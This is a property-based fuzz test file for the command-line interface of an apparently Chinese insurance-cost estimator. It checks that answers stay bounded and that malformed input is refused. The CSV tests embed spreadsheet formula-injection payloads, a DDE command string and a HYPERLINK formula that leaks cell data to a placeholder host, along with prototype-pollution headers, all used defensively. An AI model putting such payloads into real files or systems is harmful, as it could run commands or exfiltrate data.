// The properties check with node:assert: Vitest's expect spends ~7 µs a call on bookkeeping, and the property files make over a million calls a run.
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, it } from 'vitest';
import { MAX_RECORD_CHARS, runCsv, runJsonl } from './batch';
import { answerClaim } from './cli';
import { MAX_PROBLEMS } from './cli-error';
import { answerContribution } from './contribution-cli';
import { collector, ZOD_ENGLISH } from './test-support';

/**
 * Fuzzing every CLI surface (estimate, --jsonl, --csv, contribution) with inputs built to make its
 * answer large or wrong: long lists of small wrong items, many and long unknown keys, deep nesting,
 * keys written twice, numbers a double would round. Whatever comes in, the answer is a Chinese
 * refusal or a result, never larger than GROWTH times the input plus SLACK bytes (for the batch modes,
 * per line or record), and a repeated key or a rounded number is never computed on. The inputs of
 * issue 22 that broke these are fixed cases (fast-check's examples), run first.
 */

const RUNS = 10_000;
/** An answer may be at most this many times its input… */
const GROWTH = 10;
/** …plus this many bytes (a full estimate of a one-line claim is about 7 KB). */
const SLACK = 32 * 1024;

const bytes = (text: string) => Buffer.byteLength(text);

// ---------- inputs ----------

const claim = { city: 'yantai', scheme: 'employee', member: 'working', date: '2020-06-01', hospitalLevel: 3, admission: 1, totalCost: 20000 };
const contribution = { city: 'yantai', scheme: 'employee', member: 'working', year: 2020, monthlyWage: 5000, age: 40 };

/** Values built to make an answer large: each item of a long list wrong, many or long keys, deep nesting, long text. */
const hostile = fc.oneof(
  fc.array(fc.constantFrom<unknown>(1, null, {}, [], '', 'x', true, { date: 1 }, { totalCost: -1, x: 1 }), { maxLength: 1500 }),
  fc.dictionary(fc.string({ maxLength: 60 }), fc.constantFrom(1, null), { maxKeys: 100, noNullPrototype: true }),
  fc.string({ maxLength: 3000 }).map((key) => ({ [key]: 1 })),
  fc.integer({ min: 1, max: 2000 }).map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown),
  fc.string({ unit: 'binary', maxLength: 3000 }),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Breaks that must be refused, not computed on: a key written twice, a number a double would round. */
type Break = 'duplicate-key' | 'inexact-number';

interface Case {
  text: string;
  /** The code the answer must carry. */
  refusal?: string;
}

/** A JSON input: the base with some fields hostile, then maybe a key written twice or a rounded number spliced into its text. */
function jsonCases(base: Record<string, unknown>, fields: readonly string[]): fc.Arbitrary<Case> {
  return fc
    .record({
      changes: fc.array(fc.tuple(fc.constantFrom(...fields, 'unknownField'), hostile), { maxLength: 2 }),
      broken: fc.option(fc.constantFrom<Break>('duplicate-key', 'inexact-number'), { nil: undefined }),
      digits: fc.integer({ min: 17, max: 400 }),
    })
    .map(({ changes, broken, digits }): Case => {
      const input: Record<string, unknown> = { ...base };
      for (const [field, value] of changes) input[field] = value;
      const text = JSON.stringify(input);
      if (broken === 'duplicate-key') return { text: text.replace(/^\{/, `{"city":"jinan",`), refusal: broken };
      // 1.000…001: no double is that number; JSON.parse would read 1.
      if (broken === 'inexact-number') return { text: text.replace(/^\{/, `{"x":1.${'0'.repeat(digits)}1,`), refusal: broken };
      return { text };
    });
}

const earlierOf = (n: number) => `[${Array(n).fill(1).join(',')}]`;

/** A claim whose earlier is n numbers (issue 22: 2 MB of these took 42 s and printed 200 MB). */
const earlierClaim = (n: number) => `{"city":"yantai","scheme":"employee","member":"working","date":"2020-06-01","hospitalLevel":3,"admission":1,"totalCost":20000,"earlier":${earlierOf(n)}}`;

// ---------- checks ----------

/** An answer (or a line or record of one) at most GROWTH times its input plus SLACK bytes. */
function checkBound(answer: string, input: string) {
  const [size, inputSize] = [bytes(answer), bytes(input)];
  const bound = GROWTH * inputSize + SLACK;
  assert.ok(size <= bound, `an answer of ${size} bytes to ${inputSize} bytes of input: more than ${bound}`);
}

function checkRefusal(json: { error: { code: unknown; message: string; problems?: string[] } }) {
  assert.equal(typeof json.error.code, 'string');
  assert.match(json.error.message, /[\u4e00-\u9fff]/);
  assert.doesNotMatch(json.error.message, ZOD_ENGLISH);
  const problems = json.error.problems ?? [];
  assert.ok(problems.length <= MAX_PROBLEMS, `${problems.length} problems, more than ${MAX_PROBLEMS}`);
  assert.equal(new Set(problems).size, problems.length, `a problem listed twice: ${problems.join(' | ')}`);
}

/** A single-input answer: JSON, bounded, a Chinese refusal or a result, and refused when it must be. */
function checkAnswer({ text, refusal }: Case, { exitCode, output }: { exitCode: number; output: string }) {
  checkBound(output, text);
  const json = JSON.parse(output);
  if (refusal) assert.deepEqual([exitCode, json.error?.code], [2, refusal]);
  if (exitCode === 2) checkRefusal(json);
  else assert.equal(json.error, undefined);
}

const stream = (text: string) => Readable.from([Buffer.from(text)]);

// ---------- the surfaces ----------

describe('estimate CLI: bounded answers, never computed on a repeated key or a rounded number', () => {
  const FIELDS = ['city', 'member', 'date', 'hospitalLevel', 'admission', 'totalCost', 'outOfScope', 'earlier', 'overrides'];
  it('any hostile claim', () => {
    fc.assert(
      fc.property(jsonCases(claim, FIELDS), (c) => checkAnswer(c, answerClaim(c.text))),
      {
        numRuns: RUNS,
        examples: [
          [{ text: earlierClaim(1_000_000), refusal: 'invalid-input' }],
          [{ text: earlierClaim(999), refusal: 'invalid-input' }],
          [{ text: JSON.stringify(claim).replace('"totalCost":20000', '"totalCost":99999999.999999999'), refusal: 'inexact-number' }],
          [{ text: JSON.stringify({ ...claim, totalCost: -1e-7 }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify({ ...claim, overrides: { rates: Array.from({ length: 10_000 }, (_, i) => ({ upTo: i + 1, rate: 0.5 })) } }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify({ ...claim, [`k${'y'.repeat(100_000)}`]: 1 }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify({ ...claim, ...Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`k${i}`, 1])) }), refusal: 'invalid-input' }],
        ],
      },
    );
  });
});

describe('contribution CLI: bounded answers, never computed on a repeated key, a rounded number or a field its member does not use', () => {
  const FIELDS = ['city', 'member', 'year', 'employer', 'monthlyWage', 'age', 'flexibleRate', 'declaredBase'];
  it('any hostile input', () => {
    fc.assert(
      fc.property(jsonCases(contribution, FIELDS), (c) => checkAnswer(c, answerContribution(c.text))),
      {
        numRuns: RUNS,
        examples: [
          // Issue 22: it computed the employer's share of the last, 50,000, with exit code 0.
          [{ text: '{"city":"yantai","scheme":"employee","member":"working","year":2020,"monthlyWage":5000,"age":40,"monthlyWage":50000}', refusal: 'duplicate-key' }],
          [{ text: `\ufeff${JSON.stringify(contribution)}` }],
          [{ text: '{"city":"yantai",\n"scheme" "employee"}', refusal: 'invalid-json' }],
          [{ text: JSON.stringify({ city: 'yantai', scheme: 'resident', member: 'adult-tier2', year: 2018, monthlyWage: 5000 }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify({ ...contribution, flexibleRate: 0.1 }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify({ ...contribution, year: 1e308 }), refusal: 'invalid-input' }],
          [{ text: JSON.stringify(contribution).replace('"monthlyWage":5000', '"monthlyWage":99999999.999999999'), refusal: 'inexact-number' }],
          [{ text: JSON.stringify({ ...contribution, extra: JSON.parse(earlierOf(1_000_000)) }), refusal: 'invalid-input' }],
        ],
      },
    );
  });
});

describe('--jsonl: each line’s answer bounded by that line', () => {
  const line = fc.oneof(
    { weight: 4, arbitrary: jsonCases(claim, ['city', 'admission', 'totalCost', 'earlier', 'overrides']).map((c) => c.text) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }).map((s) => s.replace(/[\r\n]/g, ' ')) },
  );
  it('any lines', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 4 }), fc.boolean(), async (lines, crlf) => {
        const out = collector();
        await runJsonl(stream(lines.join(crlf ? '\r\n' : '\n')), out.stream);
        const answers = out.text().split('\n').slice(0, -1);
        for (const answer of answers) {
          const json = JSON.parse(answer);
          const input = lines[json.line - 1]!;
          checkBound(answer, input);
          if (json.error) checkRefusal(json);
        }
      }),
      {
        numRuns: RUNS / 5,
        examples: [
          // Issue 22: one line just under 1 MiB gave a 108 MB answer line.
          [[earlierClaim(524_000)], false],
          // A CRLF line of exactly the limit was refused where the LF one was taken.
          [[`{"city": "${'x'.repeat(MAX_RECORD_CHARS - 12)}"}`, JSON.stringify(claim)], true],
        ],
      },
    );
  });
});

describe('--csv: each record’s answer bounded by that record, no cell a spreadsheet would run', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  const NUMBER = /^-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?$/;
  const FIELDS = ['city', 'scheme', 'member', 'date', 'hospitalLevel', 'admission', 'totalCost', 'earlier', 'overrides'];
  const cell = fc.oneof(
    fc.constantFrom('yantai', 'employee', 'working', '2020-06-01', '3', '1', '20000', '', '-5', '99999999.999999999'),
    fc.constantFrom('=HYPERLINK("http://x.example","看")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '=cmd|calc!A0'),
    fc.string({ maxLength: 40 }),
    hostile.map((v) => JSON.stringify(v) ?? ''),
  );
  const header = fc.oneof(
    fc.shuffledSubarray(FIELDS, { minLength: 1 }),
    fc.array(fc.oneof(fc.constantFrom(...FIELDS, '=cmd|calc!A0', '__proto__', 'constructor', 'prototype', '+x'), fc.string({ minLength: 1, maxLength: 300 })), { minLength: 1, maxLength: 70 }),
  );
  const quote = (c: string) => (/[",\r\n]/.test(c) || c.trim() !== c ? `"${c.replaceAll('"', '""')}"` : c);

  it('any table', async () => {
    await fc.assert(
      fc.asyncProperty(header, fc.array(fc.array(cell, { minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 4 }), async (head, rows) => {
        const records = [head, ...rows].filter((r) => r.some((c) => c.trim() !== '')).map((r) => r.map(quote).join(','));
        const out = collector();
        const { problem } = await runCsv(stream(`${records.join('\r\n')}\r\n`), out.stream);
        const answers = parseCsv(out.text(), { bom: true, relax_column_count: true, raw: true }) as unknown as { record: string[]; raw: string }[];
        answers.forEach(({ record, raw }, i) => {
          checkBound(raw, records[i]!);
          for (const c of record) assert.equal(FORMULA.test(c) && !NUMBER.test(c), false, `a cell a spreadsheet would run: ${c}`);
        });
        if (head.some((h) => ['__proto__', 'constructor', 'prototype'].includes(h.trim())) || head.length > 64) assert.deepEqual([typeof problem, answers], ['string', []]);
      }),
      {
        numRuns: RUNS / 5,
        examples: [
          // Issue 22: a formula copied into output meant for Excel, a header that runs a command.
          [['=cmd|calc!A0', 'city'], [['=HYPERLINK("http://x.example/?"&A1,"看")', 'yantai']]],
          // A __proto__ column with an object cell: the row's fields were read through the prototype and estimated.
          [['__proto__'], [[JSON.stringify(claim)]]],
          // A wide header of long unknown names, and short rows: each answer was as wide as the header.
          [Array.from({ length: 80 }, (_, i) => `c${i}${'n'.repeat(3000)}`), [['x'], ['y']]],
          [Array.from({ length: 60 }, (_, i) => `c${i}${'n'.repeat(3000)}`), [['x'], ['y']]],
        ],
      },
    );
  });
});
